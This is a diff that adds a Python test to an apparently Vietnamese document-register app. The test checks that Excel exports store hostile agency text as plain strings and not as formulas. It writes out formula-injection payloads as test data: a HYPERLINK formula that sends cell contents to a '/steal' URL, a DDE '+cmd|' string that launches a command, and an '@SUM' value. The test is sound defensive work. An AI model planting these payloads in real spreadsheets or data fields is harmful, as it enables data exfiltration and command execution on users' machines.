@@ -264,3 +264,20 @@ def test_an_empty_register_still_prints_its_cover_and_says_so(office):
     data = register_pdf(sheet(office, OUTGOING, date_from=timezone.localdate() + dt.timedelta(days=1)))
     assert "SỔ ĐĂNG KÝ VĂN BẢN ĐI" in pdf_text(data, 1)
     assert "Không có văn bản nào" in pdf_text(data, 2)
+
+
+def test_text_from_another_agency_is_written_as_data_never_as_a_formula(office):
+    """An issuer named "=HYPERLINK(…)" or a symbol "+cmd|…" must not become a live formula."""
+    hostile_issuer = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Xem văn bản")'
+    hostile_symbol = "+cmd|' /C calc'!A0"
+    document = incoming_create_paper(
+        actor=office["clerk"], organization=office["org"], document_type=office["cv"], symbol=hostile_symbol,
+        subject="@SUM(1+1) V/v thử", issued_on=None, issuer_name=hostile_issuer)
+    incoming_register(actor=office["clerk"], document=document)
+    for kind in (INCOMING, TRACKING):
+        ws = load_workbook(io.BytesIO(register_xlsx(sheet(office, kind)))).active
+        cells = [cell for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], kind
+        risky = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@"))]
+        assert kind != INCOMING or any(cell.value == hostile_issuer for cell in risky)
+        assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky), kind
